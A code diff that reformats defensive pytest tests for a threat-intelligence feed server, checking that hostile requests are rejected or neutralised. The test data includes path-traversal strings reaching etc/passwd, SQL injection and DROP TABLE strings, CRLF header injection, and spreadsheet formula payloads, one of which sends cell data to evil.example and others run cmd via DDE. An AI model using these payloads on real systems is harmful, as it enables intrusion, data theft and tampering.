@@ -55,8 +55,11 @@ UNREADABLE = [("rokus", None), ("by-alias", "rokus")]
 
 
 @pytest.mark.parametrize("fmt", FORMATS)
-@pytest.mark.parametrize("params", [{}, {"since": "2020-01-01T00:00:00Z"}, {"include": "withdrawn"},
-                                    {"since": "garbage"}, {"include": "nope"}], ids=str)
+@pytest.mark.parametrize(
+    "params",
+    [{}, {"since": "2020-01-01T00:00:00Z"}, {"include": "withdrawn"}, {"since": "garbage"}, {"include": "nope"}],
+    ids=str,
+)
 def test_unreadable_collection_reads_byte_for_byte_like_an_absent_one(world, fmt, params):
     rokus_uuid = world.ids["rokus"]
     for hidden in (rokus_uuid, "rokus"):
@@ -76,17 +79,35 @@ def test_collection_of_another_api_root_is_absent(world):
     assert got.status_code == 404
 
 
-@pytest.mark.parametrize("path", [
-    "/feeds/../dprk/shared/stix", "/feeds/dprk/../dprk/shared/stix", "/feeds/dprk/shared/../rokus/stix",
-    "/feeds/dprk/%2e%2e/shared/stix", "/feeds/dprk/shared/..%2fstix",
-    "/feeds/dprk/shared/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-    "/feeds/dprk/shared/stix%00", "/feeds/dprk/shared%00/stix", "/feeds/dprk%00/shared/stix",
-    "/feeds/dprk/shared/STIX", "/feeds/dprk/shared/ip.txt.bak", "/feeds/dprk/shared/.txt",
-    "/feeds/dprk/shared/" + "a" * 5000, "/feeds/dprk/" + "b" * 5000 + "/stix", "/feeds/" + "c" * 5000 + "/shared/stix",
-    "/feeds/dprk/shared/stix/extra", "/feeds/dprk/shared", "/feeds/dprk/'%20OR%201=1--/stix",
-    "/feeds/dprk/shared/%E2%80%AEtxt.pi", "/feeds/dprk/%F0%9F%92%A3/stix", "/feeds/dprk/shared/%ff%fe",
-    "/feeds/dprk/rokus%0d%0aX-Evil:%201/stix", "/feeds/dprk/*/stix", "/feeds/*/*/stix",
-])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/feeds/../dprk/shared/stix",
+        "/feeds/dprk/../dprk/shared/stix",
+        "/feeds/dprk/shared/../rokus/stix",
+        "/feeds/dprk/%2e%2e/shared/stix",
+        "/feeds/dprk/shared/..%2fstix",
+        "/feeds/dprk/shared/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+        "/feeds/dprk/shared/stix%00",
+        "/feeds/dprk/shared%00/stix",
+        "/feeds/dprk%00/shared/stix",
+        "/feeds/dprk/shared/STIX",
+        "/feeds/dprk/shared/ip.txt.bak",
+        "/feeds/dprk/shared/.txt",
+        "/feeds/dprk/shared/" + "a" * 5000,
+        "/feeds/dprk/" + "b" * 5000 + "/stix",
+        "/feeds/" + "c" * 5000 + "/shared/stix",
+        "/feeds/dprk/shared/stix/extra",
+        "/feeds/dprk/shared",
+        "/feeds/dprk/'%20OR%201=1--/stix",
+        "/feeds/dprk/shared/%E2%80%AEtxt.pi",
+        "/feeds/dprk/%F0%9F%92%A3/stix",
+        "/feeds/dprk/shared/%ff%fe",
+        "/feeds/dprk/rokus%0d%0aX-Evil:%201/stix",
+        "/feeds/dprk/*/stix",
+        "/feeds/*/*/stix",
+    ],
+)
 def test_odd_paths_find_nothing_and_never_fail(world, path):
     response = world.app.test_client().get(path, headers=bearer(world.keys["singcert"]))
     assert response.status_code in (400, 404, 405), (path, response.status_code)
@@ -94,12 +115,29 @@ def test_odd_paths_find_nothing_and_never_fail(world, path):
     assert world.hidden["id"] not in body and "Traceback" not in body and "X-Evil" not in response.headers
 
 
-@pytest.mark.parametrize("since", [
-    "' OR 1=1--", "2024-01-01T00:00:00Z' OR '1'='1", "1; DROP TABLE object_versions", "9999-99-99T99:99:99Z",
-    "0000-00-00T00:00:00Z", "-1", "1e309", "NaN", "2024-01-01T00:00:00Z\r\nX-Evil: 1", "2024-01-01\x00",
-    "1" * 20_000, "2024-01-01T00:00:00." + "9" * 5000 + "Z", "%", "\\", "{}", "[]",
-    "2024-01-01T00:00:00+99:99", "2024-02-30T00:00:00Z",
-])
+@pytest.mark.parametrize(
+    "since",
+    [
+        "' OR 1=1--",
+        "2024-01-01T00:00:00Z' OR '1'='1",
+        "1; DROP TABLE object_versions",
+        "9999-99-99T99:99:99Z",
+        "0000-00-00T00:00:00Z",
+        "-1",
+        "1e309",
+        "NaN",
+        "2024-01-01T00:00:00Z\r\nX-Evil: 1",
+        "2024-01-01\x00",
+        "1" * 20_000,
+        "2024-01-01T00:00:00." + "9" * 5000 + "Z",
+        "%",
+        "\\",
+        "{}",
+        "[]",
+        "2024-01-01T00:00:00+99:99",
+        "2024-02-30T00:00:00Z",
+    ],
+)
 def test_hostile_since_is_a_clean_400(world, since):
     response = feed(world, "singcert", "shared", "csv", {"since": since})
     assert response.status_code == 400, (since, response.status_code)
@@ -107,8 +145,16 @@ def test_hostile_since_is_a_clean_400(world, since):
     assert "X-Evil" not in response.headers and len(response.get_data()) < 200_000
 
 
-@pytest.mark.parametrize("since", ["0001-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z",
-                                   "2024-01-01T00:00:00.000000001Z", "2024-01-01T09:00:00+09:00"])
+@pytest.mark.parametrize(
+    "since",
+    [
+        "0001-01-01T00:00:00Z",
+        "1970-01-01T00:00:00Z",
+        "9999-12-31T23:59:59.999999Z",
+        "2024-01-01T00:00:00.000000001Z",
+        "2024-01-01T09:00:00+09:00",
+    ],
+)
 def test_extreme_since_values_serve_only_the_partners_view(world, since):
     response = feed(world, "singcert", "shared", "stix", {"since": since})
     assert response.status_code == 200
@@ -119,14 +165,24 @@ def test_extreme_since_values_serve_only_the_partners_view(world, since):
     assert again.status_code == 200
 
 
-@pytest.mark.parametrize("query", [
-    "include=withdrawn&include=hidden", "include=hidden", "include=all", "include=withdrawn,hidden",
-    "include=WITHDRAWN", "include[]=withdrawn", "include=withdrawn%00", "include=*", "include=" + "w" * 10_000,
-    "since=2020-01-01T00:00:00Z&since=garbage", "include=withdrawn%0d%0aX-Evil:%201",
-])
+@pytest.mark.parametrize(
+    "query",
+    [
+        "include=withdrawn&include=hidden",
+        "include=hidden",
+        "include=all",
+        "include=withdrawn,hidden",
+        "include=WITHDRAWN",
+        "include[]=withdrawn",
+        "include=withdrawn%00",
+        "include=*",
+        "include=" + "w" * 10_000,
+        "since=2020-01-01T00:00:00Z&since=garbage",
+        "include=withdrawn%0d%0aX-Evil:%201",
+    ],
+)
 def test_include_and_repeated_parameters_cannot_widen_the_view(world, query):
-    response = world.app.test_client().get(f"/feeds/dprk/shared/stix?{query}",
-                                           headers=bearer(world.keys["singcert"]))
+    response = world.app.test_client().get(f"/feeds/dprk/shared/stix?{query}", headers=bearer(world.keys["singcert"]))
     assert response.status_code in (200, 400), (query, response.status_code)
     body = response.get_data(as_text=True)
     assert world.hidden["id"] not in body and world.red["id"] not in body and "X-Evil" not in response.headers
@@ -136,16 +192,29 @@ def test_include_and_repeated_parameters_cannot_widen_the_view(world, query):
 # --------------------------------------------------------------------- hostile values in published objects
 
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture(scope="module")
 def hostile(world) -> list[dict]:
     """Indicators from krcert whose names and values are spreadsheet formulas or smuggle extra lines."""
-    objs = [f.indicator(7000 + n, markings=[GREEN], name=text, description=text,
-                        pattern=f"[domain-name:value = '{text.replace(chr(39), chr(92) + chr(39))}']")
-            for n, text in enumerate(HOSTILE)]
+    objs = [
+        f.indicator(
+            7000 + n,
+            markings=[GREEN],
+            name=text,
+            description=text,
+            pattern=f"[domain-name:value = '{text.replace(chr(39), chr(92) + chr(39))}']",
+        )
+        for n, text in enumerate(HOSTILE)
+    ]
     objs += [
         f.indicator(7100, markings=[GREEN], pattern="[domain-name:value = 'evil.example\n8.8.8.8\n*']"),
         f.indicator(7101, markings=[GREEN], pattern="[ipv4-addr:value = '203.0.113.5\n0.0.0.0/0']"),
@@ -202,8 +271,14 @@ def raw_feed(app, headers: dict, alias: str = "shared", fmt: str = "stix", remot
 
 
 def test_no_credentials_and_bad_credentials_are_a_401(world):
-    for headers in ({}, bearer("chub_wrong"), basic("krcert", world.keys["cisa"]), {"Authorization": "Basic !!"},
-                    bearer(world.keys["krcert"] + "x"), basic(world.keys["krcert"], "")):
+    for headers in (
+        {},
+        bearer("chub_wrong"),
+        basic("krcert", world.keys["cisa"]),
+        {"Authorization": "Basic !!"},
+        bearer(world.keys["krcert"] + "x"),
+        basic(world.keys["krcert"], ""),
+    ):
         assert_feed_401(raw_feed(world.app, headers))
 
 
@@ -228,22 +303,27 @@ def test_cidr_limited_key_and_spoofed_forwarding_headers(world):
     assert_feed_401(raw_feed(world.app, spoofed, remote="192.0.2.1"))
     proxied = world.make_app(trusted_proxies=1)
     assert raw_feed(proxied, {**bearer(secret), "X-Forwarded-For": "10.1.2.3"}, remote="192.0.2.1").status_code == 200
-    assert_feed_401(raw_feed(proxied, {**bearer(secret), "X-Forwarded-For": "10.1.2.3, 203.0.113.9"},
-                             remote="192.0.2.1"))
+    assert_feed_401(
+        raw_feed(proxied, {**bearer(secret), "X-Forwarded-For": "10.1.2.3, 203.0.113.9"}, remote="192.0.2.1")
+    )
 
 
 def test_failed_feed_logins_are_limited_and_audited_without_the_secret(world):
     app, peer = world.make_app(login_failure_limit=3), "192.0.2.210"
     for n in range(3):
-        assert_feed_401(raw_feed(app, {**basic(b"kr\r\nFORGED\x00", f"chub_wrong{n}"),
-                                       "X-Forwarded-For": f"198.51.100.{n}"}, remote=peer))
+        assert_feed_401(
+            raw_feed(
+                app, {**basic(b"kr\r\nFORGED\x00", f"chub_wrong{n}"), "X-Forwarded-For": f"198.51.100.{n}"}, remote=peer
+            )
+        )
     limited = raw_feed(app, bearer("chub_wrong"), remote=peer)
     assert limited.status_code == 429 and int(limited.headers["Retry-After"]) > 0
     with world.hub.session(write=False) as s:
         from sqlalchemy import select
 
-        events = s.scalars(select(m.AuditEvent).where(m.AuditEvent.action == "login.failed",
-                                                      m.AuditEvent.source == peer)).all()
+        events = s.scalars(
+            select(m.AuditEvent).where(m.AuditEvent.action == "login.failed", m.AuditEvent.source == peer)
+        ).all()
     assert len(events) == 3
     assert all("chub_wrong" not in e.detail + e.actor and not set("\r\n\x00") & set(e.actor) for e in events)
 
@@ -263,7 +343,8 @@ def test_feeds_spend_the_keys_rate_limit(world):
 def test_hostile_request_ids_are_not_reflected(world):
     for sent in ("x" * 500, "a b", "<script>alert(1)</script>", "id\x00nul", "\u00e9t\u00e9"):
         response = world.app.test_client().get(
-            "/feeds/dprk/shared/stix", headers={**bearer(world.keys["singcert"]), "X-Request-ID": sent})
+            "/feeds/dprk/shared/stix", headers={**bearer(world.keys["singcert"]), "X-Request-ID": sent}
+        )
         assert response.status_code == 200
         assert response.headers["X-Request-ID"] != sent and response.headers["X-Request-ID"].isalnum()
 
@@ -308,8 +389,9 @@ fresh_app = prop.fresh_app  # a new database per hypothesis example
 
 
 def feed_view(app, key: str, col_uuid: str, fmt: str):  # type: ignore[no-untyped-def]
-    return app.test_client().get(f"/feeds/{prop.ROOT}/{col_uuid}/{fmt}", query_string={"include": "withdrawn"},
-                                 headers=bearer(key))
+    return app.test_client().get(
+        f"/feeds/{prop.ROOT}/{col_uuid}/{fmt}", query_string={"include": "withdrawn"}, headers=bearer(key)
+    )
 
 
 def check_feeds_match_taxii(app, spec, uuids: dict, key: str, slug: str) -> None:  # type: ignore[no-untyped-def]
@@ -327,8 +409,9 @@ def check_feeds_match_taxii(app, spec, uuids: dict, key: str, slug: str) -> None
         assert csv_ids == sorted(o["id"] for o in taxii if o["type"] == "indicator"), slug
 
 
-@settings(max_examples=12, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
+)
 @given(spec=prop.world_specs(), data=st.data())
 def test_feeds_release_exactly_what_taxii_releases(fresh_app, spec, data):
     """In generated worlds (one partner possibly a peer hub) every partner's feeds equal its TAXII pull."""
